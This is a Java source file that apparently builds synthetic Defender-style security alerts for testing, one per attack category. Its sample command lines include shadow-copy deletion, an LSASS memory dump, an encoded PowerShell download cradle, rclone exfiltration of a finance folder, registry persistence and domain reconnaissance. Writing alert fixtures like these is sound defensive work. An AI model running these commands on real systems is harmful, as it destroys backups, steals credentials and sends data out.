package io.defenderroutes.sandbox;

import java.util.List;
import java.util.Random;

/**
 * Texts of an alert in the style of Defender.
 *
 * @param category of the alert
 * @param title AlertTitle
 * @param description a sentence or two
 * @param source EDR, AV, SmartScreen …
 * @param file FileName
 * @param path FilePath
 * @param command CommandLine
 * @param threat ThreatName; empty unless set by an antivirus
 */
record AlertStory(
    String category,
    String title,
    String description,
    String source,
    String file,
    String path,
    String command,
    String threat) {

  /** One per category, with quotes, CRLF, tabs, U+FFFD and other scripts, as in real text. */
  static final List<AlertStory> ALL =
      List.of(
          new AlertStory(
              "Malware",
              "'Emotet' malware was detected",
              "Malware and unwanted software are undesirable applications that perform annoying, disruptive, or harmful"
                  + " actions on affected machines.\r\nThis detection might indicate that the malware was stopped from"
                  + " delivering its payload. However, it is prudent to check the machine for signs of infection.",
              "WindowsDefenderAv",
              "invoice_0317.doc.exe",
              "C:\\Users\\Public\\Downloads\\Rechnung März",
              "\"C:\\Users\\Public\\Downloads\\Rechnung März\\invoice_0317.doc.exe\" /q",
              "Trojan:Win32/Emotet.RPF!MTB"),
          new AlertStory(
              "Ransomware",
              "Ransomware behavior detected in the file system",
              "A process renamed a large number of files within seconds & deleted the volume's shadow copies. Known"
                  + " ransomware families behave like this before they leave their note.",
              "EDR",
              "vssadmin.exe",
              "C:\\Windows\\System32",
              "vssadmin.exe  delete shadows /all /quiet",
              ""),
          new AlertStory(
              "CredentialAccess",
              "Suspicious access to LSASS service",
              "The Local Security Authority Subsystem Service (LSASS) was read by a process that has no business there."
                  + "\r\nAttackers dump its memory to obtain hashes & clear-text credentials.",
              "EDR",
              "rundll32.exe",
              "C:\\Windows\\System32",
              "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 \"C:\\temp\\lsass.dmp\" full",
              ""),
          new AlertStory(
              "SuspiciousActivity",
              "Suspicious PowerShell command line",
              "A suspicious PowerShell activity was observed on the machine. This behavior may indicate that PowerShell"
                  + " was used during installation, exploration, or in some cases in lateral movement activities.",
              "EDR",
              "powershell.exe",
              "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
              "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0"
                  + "ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBhACcAKQA=",
              ""),
          new AlertStory(
              "InitialAccess",
              "Phishing document opened: \"Gehaltserhöhung 2025\"",
              "A document received by mail started a script interpreter.\tThe sender's name was 山田太郎 \uFFFD and the"
                  + " domain was registered less than a week ago.",
              "OfficeATP",
              "WINWORD.EXE",
              "C:\\Program Files\\Microsoft Office\\root\\Office16",
              "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"Gehaltserhöhung 2025.docm\"",
              ""),
          new AlertStory(
              "LateralMovement",
              "Suspicious remote activity with PsExec",
              "A service was installed from another machine & started a command shell under SYSTEM. Administrators do"
                  + " so at times; attackers do so as a rule.",
              "EDR",
              "PSEXESVC.exe",
              "\\\\FILESRV01\\ADMIN$",
              "cmd.exe /c \"net use \\\\FILESRV01\\C$ /user:CONTOSO\\svc-backup\"",
              ""),
          new AlertStory(
              "Exfiltration",
              "Unusual volume of data sent to a file-sharing site",
              "An archive tool packed a large folder and a command line client uploaded it to a site that was never used"
                  + " in this organization before.",
              "MCAS",
              "rclone.exe",
              "C:\\ProgramData\\tmp",
              "rclone.exe copy D:\\Finance remote:dump --transfers=32 --no-check-certificate",
              ""),
          new AlertStory(
              "Persistence",
              "Anomaly detected in ASEP registry",
              "A process registered a suspicious command or file in ASEP registry key, where it will be run after a"
                  + " reboot. An attacker may place a malicious piece of software in such a location.",
              "EDR",
              "reg.exe",
              "C:\\Windows\\System32",
              "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v \"Updater\" /d C:\\Users\\Public\\u.vbs",
              ""),
          new AlertStory(
              "Execution",
              "Suspicious process injected code into another process",
              "A process abnormally injected code into another process. As a result, unexpected code may be running in"
                  + " the target process memory.",
              "EDR",
              "mshta.exe",
              "C:\\Windows\\System32",
              "mshta.exe vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\":close\")",
              ""),
          new AlertStory(
              "Discovery",
              "Suspicious sequence of exploration activities",
              "A process called a set of Windows commands. These commands can be used by attackers in order to identify"
                  + " assets of value & coordinate lateral movement after compromising a machine.",
              "EDR",
              "cmd.exe",
              "C:\\Windows\\System32",
              " whoami /all & nltest /domain_trusts & net group \"Domain Admins\" /domain",
              ""),
          new AlertStory(
              "CommandAndControl",
              "Connection to a custom network indicator",
              "An endpoint has connected to a URL or domain in your list of custom indicators.\r\nRésolution: bloqué.",
              "CustomTI",
              "svchost.exe",
              "C:\\Users\\Public",
              "C:\\Users\\Public\\svchost.exe -k netsvcs -p 8443",
              ""),
          new AlertStory(
              "UnwantedSoftware",
              "'InstallCore' unwanted software was prevented",
              "Potentially unwanted applications (PUA) often impact productivity and performance and are often"
                  + " unintentionally installed.",
              "WindowsDefenderAv",
              "setup_free_player.exe",
              "C:\\Users\\Public\\Downloads",
              "",
              "PUA:Win32/InstallCore"));

  /** A random story, equally distributed. */
  static AlertStory any(Random random) {
    return ALL.get(random.nextInt(ALL.size()));
  }

  /** The story of a category; a plain one if the category is unknown. */
  static AlertStory of(String category) {
    return ALL.stream()
        .filter(story -> story.category().equals(category))
        .findFirst()
        .orElseGet(
            () ->
                new AlertStory(
                    category,
                    "Suspicious " + category + " activity",
                    "Activity of the kind " + category + " was observed on the machine.",
                    "EDR",
                    "cmd.exe",
                    "C:\\Windows\\System32",
                    "cmd.exe /c whoami",
                    ""));
  }
}
